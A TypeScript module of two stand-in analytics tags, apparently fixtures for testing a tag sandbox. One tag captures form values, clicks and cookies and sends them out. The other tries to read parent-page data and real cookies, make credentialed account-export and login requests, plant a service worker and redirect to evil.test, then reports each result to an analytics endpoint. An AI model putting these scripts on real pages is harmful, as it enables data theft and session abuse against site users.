/**
 * Replaces the analytics tag, with all of its enhanced measurement on: changes of the address, forms,
 * clicks, the referrer and the base address.
 */
export const CURIOUS_TAG = `(() => {
  const tell = (what, more) => fetch("https://region1.google-analytics.com/g/collect?" + new URLSearchParams({
    what,
    more: JSON.stringify(more ?? null),
    saw: JSON.stringify([location.href, document.referrer, document.baseURI]),
  }), { method: "POST", mode: "no-cors", keepalive: true });
  for (const name of ["pushState", "replaceState"]) {
    const change = history[name];
    history[name] = function (...given) {
      const from = location.href;
      change.apply(this, given);
      tell("history", [from, location.href]);
    };
  }
  for (const name of ["popstate", "hashchange"]) addEventListener(name, () => tell("history", location.href));
  for (const name of ["focusin", "change", "submit"]) {
    addEventListener(name, ({ target }) => tell("form", [target.form?.action ?? target.action, target.value]), true);
  }
  addEventListener("click", ({ target }) => tell("click", [target.href, target.textContent]), true);
  const report = (pushed) => tell("pushed", [...pushed]);
  dataLayer.forEach(report);
  dataLayer.push = (...pushed) => pushed.forEach(report);
  document.cookie = "_ga=GA1.1.1.1; path=/";
  tell("start", [document.title, document.URL, document.cookie]);
})()`;

/** Replaces the analytics tag with one that tries to get at everything around it, and tells how it fared. */
export const HOSTILE_TAG = `(async () => {
  const real = (name) => Object.getOwnPropertyDescriptor(Document.prototype, name).get.call(document);
  const element = (name, more) => new Promise((resolve, reject) => {
    const made = Object.assign(document.createElement(name), more);
    made.onload = () => resolve("loaded");
    made.onerror = () => reject(new Error());
    document.body.append(made);
  });
  const site = location.origin;
  const attempts = {
    "the page's document": () => { parent.document.body.dataset.taken = "1"; return parent.document.title; },
    "the page's variables": () => parent.localStorage.getItem("canary"),
    "the top page's address": () => top.location.href,
    "real cookies": () => real("cookie"),
    "cookies it was given": () => document.cookie,
    "local storage": () => localStorage.getItem("canary"),
    "session storage": () => sessionStorage.length,
    "a database": () => new Promise((resolve, reject) => {
      const opening = indexedDB.open("taken");
      opening.onsuccess = resolve;
      opening.onerror = reject;
    }),
    "caches": () => caches.keys(),
    "the API, as the user": () => fetch(site + "/api/auth/user", { credentials: "include" }),
    "the API, by XMLHttpRequest": () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.withCredentials = true;
      request.onload = resolve;
      request.onerror = reject;
      request.open("GET", site + "/api/account/export");
      request.send();
    }),
    "the API, by a picture": () => element("img", { src: site + "/api/account/export" }),
    "the API, by a beacon": () => {
      navigator.sendBeacon(site + "/api/logout");
      return "sent, or so it seems";
    },
    "another script of the tag manager": () => element("script", { src: "https://www.googletagmanager.com/gtm.js?id=GTM-OTHER" }),
    "code from a text": () => new Function("return 1")(),
    "a worker": () => new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      worker.onmessage = resolve;
      worker.onerror = reject;
    }),
    "a service worker": () => navigator.serviceWorker.register("/sw.js"),
    "a window": () => { if (!open(site)) throw new Error(); return "opened"; },
    "a form": () => {
      const form = Object.assign(document.createElement("form"), { action: site + "/api/auth/login", method: "post" });
      document.body.append(form);
      form.submit();
      return "tried";
    },
    "leading the page elsewhere": () => { top.location = "https://evil.test/"; return "led"; },
  };
  for (const data of [
    "_ga=GA1.1.6.6", { cookie: "canary=taken" }, { cookie: "cosmic_session=taken; Path=/" },
    { cookie: "_ga=ada@example.test" }, { cookie: "_ga=GA1.1.1.1; Domain=localhost" },
    { command: ["event", "taken", {}] }, { cookies: ["_ga=GA1.1.6.6"] },
  ]) parent.postMessage(data, "*");
  for (const [name, attempt] of Object.entries(attempts)) {
    const outcome = await Promise.resolve().then(attempt).then(String, () => "refused");
    await fetch("https://region1.google-analytics.com/g/collect?" + new URLSearchParams({ [name]: outcome }), { mode: "no-cors" });
  }
  await fetch("https://region1.google-analytics.com/g/collect?done", { mode: "no-cors" });
})()`;
